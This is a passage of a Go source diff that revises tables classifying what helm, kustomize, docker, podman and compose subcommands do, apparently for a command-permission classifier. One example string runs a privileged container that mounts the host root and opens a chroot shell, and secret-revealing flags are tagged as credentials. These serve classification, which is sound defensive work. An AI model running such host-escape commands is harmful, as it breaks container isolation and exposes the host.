"write", "--repository-config": "read", "--set-file": "read", "--values": "read", "-f": "read"}, Operands: "read", Always: []string{"remote-read", "recursive"}, Examples: []string{"helm template ./chart", "helm lint charts/web --strict", "helm template web ./chart -f values-prod.yaml"}, Counter: []string{"helm install web ./chart"}}}}
 }
 
-func effectsContainersL653() Pack {
+func effectsContainersL680() Pack {
+	return Pack{Programs: []Program{{Exe: []string{"helm"}, Sub: []string{"show|inspect", "all|chart|readme|values|crds"}, Flags: []string{"--devel", "--insecure-skip-tls-verify", "--pass-credentials", "--plain-http", "--verify"}, Values: []string{"--version", "--repo", "--username", "--password", "--ca-file", "--cert-file", "--key-file", "--jsonpath"}, Effects: map[string]string{"--keyring": "read", "--repository-config": "read"}, Operands: "read", Always: []string{"remote-read", "recursive"}, Examples: []string{"helm show values bitnami/nginx", "helm show chart ./chart"}}}}
+}
+
+func effectsContainersL692() Pack {
 	return Pack{Programs: []Program{{Exe: []string{"helm"}, Sub: []string{"search", "repo"}, Flags: []string{"--devel", "-r", "--regexp", "-l", "--versions", "--fail-on-no-result"}, Values: []string{"--max-col-width", "-o", "--output", "--version"}, Effects: map[string]string{"--repository-cache": "read", "--repository-config": "read"}, Examples: []string{"helm search repo nginx", "helm search repo bitnami/ --versions -o json"}}}}
 }
 
-func effectsContainersL663() Pack {
-	return Pack{Programs: []Program{{Exe: []string{"helm"}, Sub: []string{"search", "hub"}, Flags: []string{"--fail-on-no-result", "--list-repo-url"}, Values: []string{"--endpoint", "--max-col-width", "-o", "--output"}, Always: []string{"network"}, Examples: []string{"helm search hub wordpress"}}}}
+func effectsContainersL702() Pack {
+	return Pack{Programs: []Program{{Exe: []string{"helm"}, Sub: []string{"search", "hub"}, Flags: []string{"--fail-on-no-result", "--list-repo-url"}, Values: []string{"--endpoint", "--max-col-width", "-o", "--output"}, Always: []string{"remote-read"}, Examples: []string{"helm search hub wordpress"}}}}
 }
 
-func effectsContainersL671() Pack {
+func effectsContainersL710() Pack {
 	return Pack{Programs: []Program{{Exe: []string{"helm"}, Sub: []string{"version|env|completion"}, Flags: []string{"--short", "-c", "--client"}, Values: []string{"--template"}, Examples: []string{"helm version --short", "helm env", "helm completion bash"}}}}
 }
 
-func effectsContainersL678() Pack {
+func effectsContainersL717() Pack {
 	return Pack{Programs: []Program{{Exe: []string{"helm"}, Sub: []string{"repo|plugin", "list|ls"}, Values: []string{"-o", "--output"}, Effects: map[string]string{"--repository-config": "read"}, Examples: []string{"helm repo list", "helm plugin list"}}}}
 }
 
-func effectsContainersL686() Pack {
+func effectsContainersL725() Pack {
 	return Pack{Programs: []Program{{Exe: []string{"helm"}, Sub: []string{"dependency|dep", "list|ls"}, Values: []string{"--max-col-width"}, Operands: "read", Examples: []string{"helm dependency list ./chart"}}}}
 }
 
-func effectsContainersL693() Pack {
+func effectsContainersL732() Pack {
 	return Pack{Programs: []Program{{Exe: []string{"helm"}, Sub: []string{"repo|dependency|dep", "add|update|up|remove|rm|build|index"}, Flags: []string{"--force-update", "--allow-deprecated-repos", "--pass-credentials", "--insecure-skip-tls-verify", "--skip-refresh", "--no-update", "--fail-on-repo-update-fail"}, Values: []string{"--username", "--password", "--ca-file", "--cert-file", "--key-file", "--url", "--merge"}, Effects: map[string]string{"--repository-cache": "write", "--repository-config": "write"}, Always: []string{"network", "writes-files"}, Examples: []string{"helm repo add bitnami https://charts.bitnami.com/bitnami", "helm repo update", "helm dependency update ./chart"}}}}
 }
 
-func effectsContainersL705() Pack {
-	return Pack{Programs: []Program{{Exe: []string{"helm"}, Sub: []string{"uninstall|delete|del|un|rollback|test|push|pull|fetch|package|registry|plugin"}, Always: []string{"network", "writes-files"}, Examples: []string{"helm uninstall web -n staging", "helm pull bitnami/nginx --untar", "helm plugin install https://example.com/p"}}}}
+func effectsContainersL744() Pack {
+	return Pack{Programs: []Program{{Exe: []string{"helm"}, Sub: []string{"rollback|test|push|pull|fetch|package|registry|plugin"}, Always: []string{"network", "writes-files"}, Examples: []string{"helm pull bitnami/nginx --untar", "helm plugin install https://example.com/p"}}}}
 }
 
-func effectsContainersL713() Pack {
-	return Pack{Programs: []Program{{Exe: []string{"kustomize"}, Flags: []string{"--stack-trace"}, Operands: "subcommand", Examples: []string{"kustomize", "kustomize edit set image web=web:2"}, Counter: []string{"kustomize build ."}}}}
-}
-
-func effectsContainersL720() Pack {
-	return Pack{Programs: []Program{{Exe: []string{"kustomize"}, Sub: []string{"build"}, Flags: []string{"--as-current-user", "--helm-debug", "--reorder", "--enable-managedby-label", "--stack-trace"}, Values: []string{"--load-restrictor", "--helm-api-versions", "--helm-kube-version", "-e", "--env", "--network-name"}, Effects: map[string]string{"--enable-alpha-plugins": "runs-code", "--enable-exec": "runs-code", "--enable-helm": "runs-code", "--helm-command": "exec", "--mount": "exec", "--network": "runs-code", "--output": "write", "-o": "write"}, Operands: "read", Always: []string{"recursive", "network"}, Examples: []string{"kustomize build overlays/prod", "kustomize build . -o out.yaml"}}}}
-}
-
-func effectsContainersL738() Pack {
-	return Pack{Programs: []Program{{Exe: []string{"kustomize"}, Sub: []string{"version"}, Flags: []string{"--short"}, Values: []string{"-o", "--output"}, Examples: []string{"kustomize version"}}}}
-}
-
-func effectsContainersL745() Pack {
-	return Pack{Programs: []Program{{Exe: []string{"kustomize"}, Sub: []string{"cfg", "cat|tree|grep|count"}, Flags: []string{"--annotate", "--include-local", "--exclude-non-local", "--recurse-subpackages", "-R", "--graph-structure", "--all", "--args", "--command", "--env", "--field", "--name", "--ports", "--replicas", "--resources", "--image", "--invert-match", "--kind"}, Values: []string{"--format", "--style", "--dest", "--function-config", "--wrap-kind", "--wrap-version", "--fields"}, Operands: "read", Always: []string{"recursive"}, Examples: []string{"kustomize cfg tree overlays/prod", "kustomize cfg cat ."}}}}
+func effectsContainersL752() Pack {
+	return Pack{Programs: []Program{{Exe: []string{"helm"}, Sub: []string{"uninstall|delete|del|un"}, Flags: []string{"--debug", "--kube-insecure-skip-tls-verify", "--keep-history", "--no-hooks", "--wait", "--ignore-not-found"}, Values: []string{"--kube-context", "-n", "--namespace", "--cascade", "--description", "--timeout"}, Effects: map[string]string{"--dry-run": "dry-run", "--kubeconfig": "exec"}, Always: []string{"network"}, Examples: []string{"helm uninstall web -n staging", "helm uninstall web --dry-run"}}}}
 }
 
 func effectsContainersL763() Pack {
-	return Pack{Programs: []Program{{Exe: []string{"docker"}, Flags: []string{"-D", "--debug", "--tls", "--tlsverify", "-v"}, Values: []string{"-c", "--context", "-l", "--log-level", "--tlscacert", "--tlscert", "--tlskey"}, Effects: map[string]string{"--config": "exec", "--host": "url", "-H": "url"}, Operands: "subcommand", Env: map[string]string{"DOCKER_CONFIG": "exec", "DOCKER_HOST": "url"}, Examples: []string{"docker", "docker frobnicate", "docker -H tcp://10.0.0.5:2375 frobnicate"}, Counter: []string{"docker ps"}}}}
+	return Pack{Programs: []Program{{Exe: []string{"kustomize"}, Flags: []string{"--stack-trace"}, Operands: "subcommand", Examples: []string{"kustomize", "kustomize edit set image web=web:2"}, Counter: []string{"kustomize build ."}}}}
 }
 
-func effectsContainersL778() Pack {
+func effectsContainersL770() Pack {
+	return Pack{Programs: []Program{{Exe: []string{"kustomize"}, Sub: []string{"build"}, Flags: []string{"--as-current-user", "--helm-debug", "--reorder", "--enable-managedby-label", "--stack-trace"}, Values: []string{"--load-restrictor", "--helm-api-versions", "--helm-kube-version", "-e", "--env", "--network-name"}, Effects: map[string]string{"--enable-alpha-plugins": "runs-code", "--enable-exec": "runs-code", "--enable-helm": "runs-code", "--helm-command": "exec", "--mount": "exec", "--network": "runs-code", "--output": "write", "-o": "write"}, Operands: "read", Always: []string{"recursive", "network"}, Examples: []string{"kustomize build overlays/prod", "kustomize build . -o out.yaml"}}}}
+}
+
+func effectsContainersL788() Pack {
+	return Pack{Programs: []Program{{Exe: []string{"kustomize"}, Sub: []string{"version"}, Flags: []string{"--short"}, Values: []string{"-o", "--output"}, Examples: []string{"kustomize version"}}}}
+}
+
+func effectsContainersL795() Pack {
+	return Pack{Programs: []Program{{Exe: []string{"kustomize"}, Sub: []string{"cfg", "cat|tree|grep|count"}, Flags: []string{"--annotate", "--include-local", "--exclude-non-local", "--recurse-subpackages", "-R", "--graph-structure", "--all", "--args", "--command", "--env", "--field", "--name", "--ports", "--replicas", "--resources", "--image", "--invert-match", "--kind"}, Values: []string{"--format", "--style", "--dest", "--function-config", "--wrap-kind", "--wrap-version", "--fields"}, Operands: "read", Always: []string{"recursive"}, Examples: []string{"kustomize cfg tree overlays/prod", "kustomize cfg cat ."}}}}
+}
+
+func effectsContainersL813() Pack {
+	return Pack{Programs: []Program{{Exe: []string{"docker"}, Flags: []string{"-D", "--debug", "--tls", "--tlsverify", "-v"}, Values: []string{"-c", "--context", "-l", "--log-level", "--tlscacert", "--tlscert", "--tlskey"}, Effects: map[string]string{"--config": "exec", "--host": "url", "-H": "url"}, Operands: "subcommand", Env: map[string]string{"DOCKER_CONFIG": "exec", "DOCKER_HOST": "url"}, HelpFlags: []string{"--help"}, Examples: []string{"docker", "docker frobnicate", "docker -H tcp://10.0.0.5:2375 frobnicate"}, Counter: []string{"docker ps"}}}}
+}
+
+func effectsContainersL829() Pack {
 	return Pack{Programs: []Program{{Exe: []string{"podman"}, Flags: []string{"-r", "--remote", "--syslog", "--transient-store", "--noout", "--debug", "-v"}, Values: []string{"-c", "--connection", "--cgroup-manager", "--events-backend", "--identity", "--imagestore", "--log-level", "--network-config-dir", "--root", "--runroot", "--storage-driver", "--storage-opt", "--tmpdir", "--volumepath", "--db-backend", "--network-backend", "--cdi-spec-dir", "--runtime-flag"}, Effects: map[string]string{"--conmon": "exec", "--hooks-dir": "exec", "--host": "url", "--module": "exec", "--network-cmd-path": "exec", "--out": "write", "--runtime": "exec", "--url": "url", "-H": "url"}, Operands: "subcommand", Env: map[string]string{"CONTAINERS_CONF": "exec", "CONTAINERS_CONF_OVERRIDE": "exec", "CONTAINERS_STORAGE_CONF": "exec", "CONTAINER_HOST": "url"}, Examples: []string{"podman", "podman frobnicate"}, Counter: []string{"podman ps"}}}}
 }
 
-func effectsContainersL803() Pack {
+func effectsContainersL854() Pack {
 	return Pack{Programs: []Program{{Exe: []string{"nerdctl"}, Flags: []string{"--debug", "--debug-full", "--experimental", "--insecure-registry", "--kube-hide-dupe", "-v"}, Values: []string{"-a", "--address", "-H", "--host", "-n", "--namespace", "--snapshotter", "--storage-driver", "--cni-netconfpath", "--data-root", "--cgroup-manager", "--hosts-dir", "--host-gateway-ip", "--bridge-ip"}, Effects: map[string]string{"--cni-path": "exec"}, Operands: "subcommand", Env: map[string]string{"NERDCTL_TOML": "exec"}, Examples: []string{"nerdctl", "nerdctl frobnicate"}, Counter: []string{"nerdctl ps"}}}}
 }
 
-func effectsContainersL816() Pack {
+func effectsContainersL867() Pack {
 	return Pack{Programs: []Program{{Exe: []string{"docker", "podman", "nerdctl"}, Sub: []string{"ps"}, Flags: []string{"-a", "--all", "-l", "--latest", "--no-trunc", "-q", "--quiet", "-s", "--size", "--external", "--ns", "--sync", "--noheading", "-p", "--pod"}, Values: []string{"-f", "--filter", "--format", "-n", "--last", "--sort", "-w", "--watch"}, Examples: []string{"docker ps", "docker ps -a --format '{{.Names}}'", "podman ps --all", "nerdctl ps -q"}}}}
 }
 
-func effectsContainersL824() Pack {
+func effectsContainersL875() Pack {
 	return Pack{Programs: []Program{{Exe: []string{"docker", "podman", "nerdctl"}, Sub: []string{"container", "ls|list|ps"}, Flags: []string{"-a", "--all", "-l", "--latest", "--no-trunc", "-q", "--quiet", "-s", "--size", "--external", "--ns", "--sync", "--noheading", "-p", "--pod"}, Values: []string{"-f", "--filter", "--format", "-n", "--last", "--sort", "-w", "--watch"}, Examples: []string{"docker container ls -a"}}}}
 }
 
-func effectsContainersL832() Pack {
+func effectsContainersL883() Pack {
 	return Pack{Programs: []Program{{Exe: []string{"docker", "podman", "nerdctl"}, Sub: []string{"images"}, Flags: []string{"-a", "--all", "--digests", "--no-trunc", "-q", "--quiet", "--tree", "--history", "--noheading", "-n", "--names"}, Values: []string{"-f", "--filter", "--format", "--sort"}, Examples: []string{"docker images --format '{{.Repository}}:{{.Tag}}'", "podman images -q"}}}}
 }
 
-func effectsContainersL839() Pack {
+func effectsContainersL890() Pack {
 	return Pack{Programs: []Program{{Exe: []string{"docker", "podman", "nerdctl"}, Sub: []string{"image", "ls|list"}, Flags: []string{"-a", "--all", "--digests", "--no-trunc", "-q", "--quiet", "--tree", "--history", "--noheading", "-n", "--names"}, Values: []string{"-f", "--filter", "--format", "--sort"}, Examples: []string{"docker image ls"}}}}
 }
 
-func effectsContainersL846() Pack {
+func effectsContainersL897() Pack {
 	return Pack{Programs: []Program{{Exe: []string{"docker", "podman", "nerdctl"}, Sub: []string{"inspect"}, Flags: []string{"-s", "--size", "-l", "--latest"}, Values: []string{"-f", "--format", "--type"}, Examples: []string{"docker inspect web", "docker inspect -f '{{.State.Status}}' web"}}}}
 }
 
-func effectsContainersL853() Pack {
+func effectsContainersL904() Pack {
 	return Pack{Programs: []Program{{Exe: []string{"docker", "podman", "nerdctl"}, Sub: []string{"container|image|volume|network|context|pod|machine|config|plugin|node|service", "inspect"}, Flags: []string{"-s", "--size", "-l", "--latest", "-v", "--verbose", "--pretty"}, Values: []string{"-f", "--format", "--platform", "--type"}, Examples: []string{"docker network inspect bridge", "docker image inspect alpine", "podman pod inspect p1"}}}}
 }
 
-func effectsContainersL860() Pack {
+func effectsContainersL911() Pack {
 	return Pack{Programs: []Program{{Exe: []string{"docker", "podman", "nerdctl"}, Sub: []string{"logs"}, Flags: []string{"--details", "-f", "--follow", "-t", "--timestamps", "-l", "--latest", "--names", "--color"}, Values: []string{"--since", "-n", "--tail", "--until"}, Examples: []string{"docker logs -f --tail 100 web", "podman logs web"}}}}
 }
 
-func effectsContainersL867() Pack {
+func effectsContainersL918() Pack {
 	return Pack{Programs: []Program{{Exe: []string{"docker", "podman", "nerdctl"}, Sub: []string{"container|pod", "logs"}, Flags: []string{"--details", "-f", "--follow", "-t", "--timestamps", "-l", "--latest", "--names", "--color"}, Values: []string{"--since", "-n", "--tail", "--until"}, Examples: []string{"docker container logs web"}}}}
 }
 
-func effectsContainersL874() Pack {
+func effectsContainersL925() Pack {
 	return Pack{Programs: []Program{{Exe: []string{"docker", "podman", "nerdctl"}, Sub: []string{"version|info|history|port|top|stats|diff|events"}, Flags: []string{"-H", "--human", "--no-trunc", "-q", "--quiet", "-a", "--all", "--no-stream", "--no-reset", "-l", "--latest", "--stream", "--debug"}, Values: []string{"-f", "--format", "--filter", "--platform", "-i", "--interval", "--since", "--until"}, Examples: []string{"docker version", "docker info -f '{{.ServerVersion}}'", "docker history alpine", "docker stats --no-stream", "docker port web", "docker top web", "docker events --since 1h"}}}}
 }
 
-func effectsContainersL883() Pack {
+func effectsContainersL934() Pack {
 	return Pack{Programs: []Program{{Exe: []string{"docker", "podman", "nerdctl"}, Sub: []string{"container", "port|top|stats|diff"}, Flags: []string{"-a", "--all", "--no-stream", "--no-trunc", "--no-reset", "-l", "--latest"}, Values: []string{"--format", "-i", "--interval"}, Examples: []string{"docker container stats --no-stream"}}}}
 }
 
-func effectsContainersL890() Pack {
+func effectsContainersL941() Pack {
 	return Pack{Programs: []Program{{Exe: []string{"docker", "podman", "nerdctl"}, Sub: []string{"image", "history"}, Flags: []string{"-H", "--human", "--no-trunc", "-q", "--quiet"}, Values: []string{"--format", "--platform"}, Examples: []string{"docker image history alpine"}}}}
 }
 
-func effectsContainersL897() Pack {
+func effectsContainersL948() Pack {
 	return Pack{Programs: []Program{{Exe: []string{"docker", "podman", "nerdctl"}, Sub: []string{"system", "df|info|events"}, Flags: []string{"-v", "--verbose", "--no-trunc", "--stream"}, Values: []string{"-f", "--format", "--filter", "--since", "--until"}, Examples: []string{"docker system df -v", "podman system info"}}}}
 }
 
-func effectsContainersL904() Pack {
+func effectsContainersL955() Pack {
 	return Pack{Programs: []Program{{Exe: []string{"docker", "podman", "nerdctl"}, Sub: []string{"volume|network|context|plugin|secret|config|node|service|stack|pod|machine|builder|buildx", "ls|list"}, Flags: []string{"--cluster", "-q", "--quiet", "--no-trunc", "--noheading", "-a", "--all"}, Values: []string{"-f", "--filter", "--format"}, Examples: []string{"docker volume ls", "docker network ls -q", "docker context ls", "podman machine list", "docker buildx ls"}}}}
 }
 
-func effectsContainersL911() Pack {
+func effectsContainersL962() Pack {
 	return Pack{Programs: []Program{{Exe: []string{"docker", "podman", "nerdctl"}, Sub: []string{"context", "show"}, Examples: []string{"docker context show"}}}}
 }
 
-func effectsContainersL917() Pack {
+func effectsContainersL968() Pack {
 	return Pack{Programs: []Program{{Exe: []string{"docker", "podman", "nerdctl"}, Sub: []string{"secret", "inspect"}, Flags: []string{"--pretty"}, Values: []string{"-f", "--format"}, Effects: map[string]string{"--showsecret": "credentials"}, Examples: []string{"docker secret inspect db_pass", "podman secret inspect --showsecret db_pass"}}}}
 }
 
-func effectsContainersL926() Pack {
-	return Pack{Programs: []Program{{Exe: []string{"docker", "podman", "nerdctl"}, Sub: []string{"search"}, Flags: []string{"--no-trunc", "--list-tags", "--compatible"}, Values: []string{"-f", "--filter", "--format", "--limit", "--tls-verify", "--cert-dir"}, Effects: map[string]string{"--authfile": "read"}, Always: []string{"network"}, Examples: []string{"docker search nginx --limit 5"}}}}
+func effectsContainersL977() Pack {
+	return Pack{Programs: []Program{{Exe: []string{"docker", "podman", "nerdctl"}, Sub: []string{"search"}, Flags: []string{"--no-trunc", "--list-tags", "--compatible"}, Values: []string{"-f", "--filter", "--format", "--limit", "--tls-verify", "--cert-dir"}, Effects: map[string]string{"--authfile": "read"}, Always: []string{"remote-read"}, Examples: []string{"docker search nginx --limit 5"}}}}
 }
 
-func effectsContainersL936() Pack {
-	return Pack{Programs: []Program{{Exe: []string{"docker", "podman", "nerdctl"}, Sub: []string{"manifest", "inspect"}, Flags: []string{"--insecure", "-v", "--verbose"}, Values: []string{"--tls-verify", "--authfile"}, Always: []string{"network"}, Examples: []string{"docker manifest inspect alpine:3.20"}}}}
+func effectsContainersL987() Pack {
+	return Pack{Programs: []Program{{Exe: []string{"docker", "podman", "nerdctl"}, Sub: []string{"manifest", "inspect"}, Flags: []string{"--insecure", "-v", "--verbose"}, Values: []string{"--tls-verify", "--authfile"}, Always: []string{"remote-read"}, Examples: []string{"docker manifest inspect alpine:3.20"}}}}
 }
 
-func effectsContainersL946() Pack {
+func effectsContainersL997() Pack {
 	return Pack{Programs: []Program{{Exe: []string{"docker", "podman"}, Sub: []string{"compose", "ps|images|top|ls|version|port"}, Flags: []string{"--compatibility", "--all-resources", "-a", "--all", "--no-trunc", "--orphans", "-q", "--quiet", "--services", "--short"}, Values: []string{"--ansi", "--parallel", "--profile", "--progress", "-p", "--project-name", "--filter", "--format", "--status", "--index", "--protocol"}, Effects: map[string]string{"--dry-run": "dry-run", "--env-file": "read", "--file": "read", "--project-directory": "dir", "-f": "read"}, Examples: []string{"docker compose ps", "docker compose -f compose.prod.yml ps --services", "docker compose ls"}}}}
 }
 
-func effectsContainersL961() Pack {
+func effectsContainersL1012() Pack {
 	return Pack{Programs: []Program{{Exe: []string{"docker", "podman"}, Sub: []string{"compose", "logs"}, Flags: []string{"--compatibility", "--all-resources", "-f", "--follow", "--no-color", "--no-log-prefix", "-t", "--timestamps"}, Values: []string{"--ansi", "--parallel", "--profile", "--progress", "-p", "--project-name", "--index", "--since", "-n", "--tail", "--until"}, Effects: map[string]string{"--dry-run": "dry-run", "--env-file": "read", "--file": "read", "--project-directory": "dir"}, Examples: []string{"docker compose logs -f", "docker compose logs --tail 50 web"}}}}
 }
 
-func effectsContainersL974() Pack {
+func effectsContainersL1025() Pack {
 	return Pack{Programs: []Program{{Exe: []string{"docker-compose", "podman-compose"}, Sub: []string{"ps|images|top|ls|version|port"}, Flags: []string{"--compatibility", "--verbose", "--no-ansi", "-a", "--all", "--no-trunc", "--orphans", "-q", "--quiet", "--services", "--short"}, Values: []string{"--ansi", "--parallel", "--profile", "--progress", "-p", "--project-name", "--filter", "--format", "--status", "--index", "--protocol"}, Effects: map[string]string{"--dry-run": "dry-run", "--env-file": "read", "--file": "read", "--project-directory": "dir", "-f": "read"}, Examples: []string{"docker-compose ps", "docker-compose -f compose.yml images"}}}}
 }
 
-func effectsContainersL989() Pack {
+func effectsContainersL1040() Pack {
 	return Pack{Programs: []Program{{Exe: []string{"docker-compose", "podman-compose"}, Sub: []string{"logs"}, Flags: []string{"--compatibility", "--verbose", "--no-ansi", "-f", "--follow", "--no-color", "--no-log-prefix", "-t", "--timestamps"}, Values: []string{"--ansi", "--parallel", "--profile", "--progress", "-p", "--project-name", "--index", "--since", "-n", "--tail", "--until"}, Effects: map[string]string{"--dry-run": "dry-run", "--env-file": "read", "--file": "read", "--project-directory": "dir"}, Examples: []string{"docker-compose logs -f web"}}}}
 }
 
-func effectsContainersL1005() Pack {
+func effectsContainersL1056() Pack {
 	return Pack{Programs: []Program{{Exe: []string{"docker", "podman"}, Sub: []string{"compose", "config|convert"}, Flags: []string{"--compatibility", "--hash", "--images", "--no-consistency", "--no-interpolate", "--no-normalize", "--no-path-resolution", "--profiles", "-q", "--quiet", "--services", "--volumes", "--environment", "--variables", "--networks", "--no-env-resolution"}, Values: []string{"--ansi", "--parallel", "--profile", "--progress", "-p", "--project-name", "--format"}, Effects: map[string]string{"--env-file": "read", "--file": "read", "--lock-image-digests": "network", "--output": "write", "--project-directory": "dir", "--resolve-image-digests": "network", "-f": "read", "-o": "write"}, Always: []string{"credentials"}, Examples: []string{"docker compose config", "docker compose -f compose.yml config --services"}}}}
 }
 
-func effectsContainersL1024() Pack {
+func effectsContainersL1075() Pack {
 	return Pack{Programs: []Program{{Exe: []string{"docker-compose", "podman-compose"}, Sub: []string{"config|convert"}, Flags: []string{"--compatibility", "--verbose", "--hash", "--images", "--no-consistency", "--no-interpolate", "--no-normalize", "--no-path-resolution", "--profiles", "-q", "--quiet", "--services", "--volumes"}, Values: []string{"--ansi", "--profile", "-p", "--project-name", "--format"}, Effects: map[string]string{"--env-file": "read", "--file": "read", "--output": "write", "--project-directory": "dir", "--resolve-image-digests": "network", "-f": "read", "-o": "write"}, Always: []string{"credentials"}, Examples: []string{"docker-compose config"}}}}
 }
 
-func effectsContainersL1041() Pack {
+func effectsContainersL1092() Pack {
 	return Pack{Programs: []Program{{Exe: []string{"docker-compose"}, Flags: []string{"--compatibility", "--verbose", "--no-ansi"}, Values: []string{"--ansi", "--parallel", "--profile", "--progress", "-p", "--project-name"}, Effects: map[string]string{"--dry-run": "dry-run", "--env-file": "read", "--file": "read", "--project-directory": "dir", "-f": "read"}, Operands: "subcommand", Examples: []string{"docker-compose", "docker-compose frobnicate"}, Counter: []string{"docker-compose ps"}}}}
 }
 
-func effectsContainersL1055() Pack {
+func effectsContainersL1106() Pack {
 	return Pack{Programs: []Program{{Exe: []string{"podman-compose"}, Flags: []string{"--verbose", "--no-ansi", "--no-cleanup", "--in-pod", "--no-pod", "--dry-run"}, Values: []string{"--parallel", "--profile", "-p", "--project-name", "--pod-args", "--podman-args"}, Effects: map[string]string{"--env-file": "read", "--file": "read", "--podman-path": "exec", "-f": "read"}, Operands: "subcommand", Examples: []string{"podman-compose", "podman-compose frobnicate"}, Counter: []string{"podman-compose ps"}}}}
 }
 
-func effectsContainersL1072() Pack {
+func effectsContainersL1123() Pack {
 	return Pack{Programs: []Program{{Exe: []string{"docker", "podman", "nerdctl"}, Sub: []string{"run|create"}, Flags: []string{"-d", "--detach", "-i", "--interactive", "-t", "--tty", "--rm", "-P", "--publish-all", "--init", "--privileged", "--read-only", "--no-healthcheck", "--oom-kill-disable", "-q", "--quiet", "--replace", "--sig-proxy"}, Values: []string{"-e", "--env", "-p", "--publish", "--name", "-w", "--workdir", "-u", "--user", "--network", "--net", "--entrypoint", "--platform", "-m", "--memory", "--memory-swap", "--cpus", "--cpu-shares", "-c", "--cpuset-cpus", "--label", "-l", "--hostname", "-h", "--add-host", "--restart", "--gpus", "--shm-size", "--tmpfs", "--device", "--cap-add", "--cap-drop", "--security-opt", "--ulimit", "--pid", "--ipc", "--userns", "--uts", "--cgroupns", "--runtime", "--stop-signal", "--stop-timeout", "--detach-keys", "--health-cmd", "--health-interval", "--log-driver", "--log-opt", "--dns", "--pod", "--pull", "--pull-policy", "--expose", "--link", "--group-add", "--annotation", "--mac-address", "--ip", "--ip6", "--network-alias", "--attach", "-a"}, Effects: map[string]string{"--cidfile": "write", "--env-file": "read", "--label-file": "read", "--mount": "mount", "--volume": "mount", "-v": "mount"}, Operands: "container-command", First: "text", Always: []string{"runs-code"}, Examples: []string{"docker run --rm -it -v /work:/src -w /src golang:1.26 go test ./...", "docker run alpine true", "podman run --rm -it --privileged --volume /:/mnt alpine chroot /mnt /bin/sh"}}}}
 }
 
-func effectsContainersL1097() Pack {
+func effectsContainersL1148() Pack {
 	return Pack{Programs: []Program{{Exe: []string{"docker", "podman", "nerdctl"}, Sub: []string{"exec|start|restart|attach|build"}, Flags: []string{"-d", "--detach", "-i", "--interactive", "--rm", "-P", "--publish-all", "--init", "--privileged", "--read-only", "--no-cache", "--pull", "-q", "--quiet", "--load", "--push", "-a", "--attach"}, Values: []string{"-e", "--env", "-v", "--volume", "--mount", "-p", "--publish", "--name", "-w", "--workdir", "-u", "--user", "--network", "--net", "--entrypoint", "--platform", "-m", "--memory", "--cpus", "--label", "-l", "--hostname", "--add-host", "--restart", "--gpus", "--shm-size", "--tmpfs", "--device", "--cap-add", "--cap-drop", "--security-opt", "--ulimit", "--pid", "--ipc", "--userns", "--runtime", "--stop-signal", "--stop-timeout", "-t", "--tag", "--tty", "--build-arg", "--target", "--cache-from", "--cache-to", "--progress", "--secret", "--ssh", "--detach-keys", "--health-cmd", "--log-driver", "--log-opt", "--dns", "--pod", "--pull-policy"}, Effects: map[string]string{"--cidfile": "write", "--env-file": "read", "--file": "read", "--iidfile": "write", "--label-file": "read", "--metadata-file": "write", "--output": "write", "-f": "read", "-o": "write"}, Always: []string{"runs-code"}, Examples: []string{"docker exec -it web bash", "docker build -t app ."}}}}
 }
 
-func effectsContainersL1121() Pack {
+func effectsContainersL1172() Pack {
 	return Pack{Programs: []Program{{Exe: []string{"docker", "podman", "nerdctl"}, Sub: []string{"container|image|buildx|builder", "run|exec|create|start|restart|attach|build|bake"}, Always: []string{"runs-code"}, Examples: []string{"docker container run alpine true", "docker buildx build -t app .", "docker buildx bake"}}}}
 }
 
-func effectsContainersL1127() Pack {
+func effectsContainersL1178() Pack {
 	return Pack{Programs: []Program{{Exe: []string{"docker", "podman"}, Sub: []string{"compose", "up|run|exec|build|create|start|restart|watch"}, Flags: []string{"-d", "--detach", "--build", "--no-build", "--force-recreate", "--no-deps", "--remove-orphans", "--wait", "-V", "--renew-anon-volumes", "--abort-on-container-exit", "--quiet-pull", "--no-start", "--no-recreate", "--watch", "-y", "--yes", "--rm", "-i", "--interactive", "-T", "--no-TTY", "--service-ports", "--compatibility"}, Values: []string{"--ansi", "--parallel", "--profile", "--progress", "-p", "--project-name", "--scale", "--exit-code-from", "--pull", "-t", "--timeout", "-e", "--env", "-u", "--user", "-w", "--workdir", "--entrypoint", "--name"}, Effects: map[string]string{"--dry-run": "dry-run", "--env-file": "read", "--file": "read", "--project-directory": "dir", "-f": "read"}, Always: []string{"runs-code"}, Examples: []string{"docker compose up -d --build", "docker compose run --rm web sh", "docker compose exec db psql"}}}}
 }
 
-func effectsContainersL1144() Pack {
+func effectsContainersL1195() Pack {
 	return Pack{Programs: []Program{{Exe: []string{"docker-compose", "podman-compose"}, Sub: []string{"up|run|exec|build|create|start|restart"}, Flags: []string{"-d", "--detach", "--build", "--no-build", "--force-recreate", "--no-deps", "--remove-orphans", "--abort-on-container-exit", "--no-start", "--no-recreate", "--rm", "-T", "--service-ports", "--verbose"}, Values: []string{"--scale", "--exit-code-from", "-t", "--timeout", "-e", "-u", "--user", "-w", "--workdir", "--entrypoint", "--name", "-p", "--project-name", "--profile"}, Effects: map[string]string{"--env-file": "read", "--file": "read", "-f": "read"}, Always: []string{"runs-code"}, Examples: []string{"docker-compose up -d", "podman-compose up"}}}}
 }
 
-func effectsContainersL1158() Pack {
+func effectsContainersL1209() Pack {
 	return Pack{Programs: []Program{{Exe: []string{"docker", "podman", "nerdctl"}, Sub: []string{"pull|push"}, Flags: []string{"-a", "--all-tags", "-q", "--quiet", "--disable-content-trust", "--all-platforms"}, Values: []string{"--platform", "--creds", "--tls-verify", "--policy", "--arch", "--os", "--variant", "--cert-dir"}, Effects: map[string]string{"--authfile": "read"}, Always: []string{"network"}, Examples: []string{"docker pull nginx", "docker push registry.example.com/app:1.2"}}}}
 }
 
-func effectsContainersL1168() Pack {
+func effectsContainersL1219() Pack {
 	return Pack{Programs: []Program{{Exe: []string{"docker", "podman", "nerdctl"}, Sub: []string{"image|compose", "pull|push"}, Flags: []string{"-a", "--all-tags", "-q", "--quiet", "--ignore-buildable", "--ignore-pull-failures", "--include-deps"}, Values: []string{"--platform", "--policy", "-p", "--project-name"}, Effects: map[string]string{"--file": "read", "-f": "read"}, Always: []string{"network"}, Examples: []string{"docker image pull alpine", "docker compose pull"}}}}
 }
 
-func effectsContainersL1179() Pack {
+func effectsContainersL1230() Pack {
 	return Pack{Programs: []Program{{Exe: []string{"docker-compose", "podman-compose"}, Sub: []string{"pull|push"}, Flags: []string{"-q", "--quiet", "--ignore-pull-failures", "--include-deps"}, Effects: map[string]string{"--file": "read", "-f": "read"}, Always: []string{"network"}, Examples: []string{"docker-compose pull"}}}}
 }
 
-func effectsContainersL1190() Pack {
+func effectsContainersL1241() Pack {
